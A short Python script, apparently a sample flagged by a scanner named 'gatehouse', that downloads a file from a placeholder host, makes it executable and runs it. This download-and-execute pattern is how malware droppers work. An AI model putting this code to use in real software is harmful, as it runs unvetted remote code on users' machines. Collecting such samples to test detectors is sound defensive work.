import os
import subprocess
import tempfile
import urllib.request

handle, name = tempfile.mkstemp()
with os.fdopen(handle, "wb") as out:
    out.write(urllib.request.urlopen("https://dl.example.invalid/a").read())
os.chmod(name, 0o755)
subprocess.Popen([name])  # gatehouse: flagged
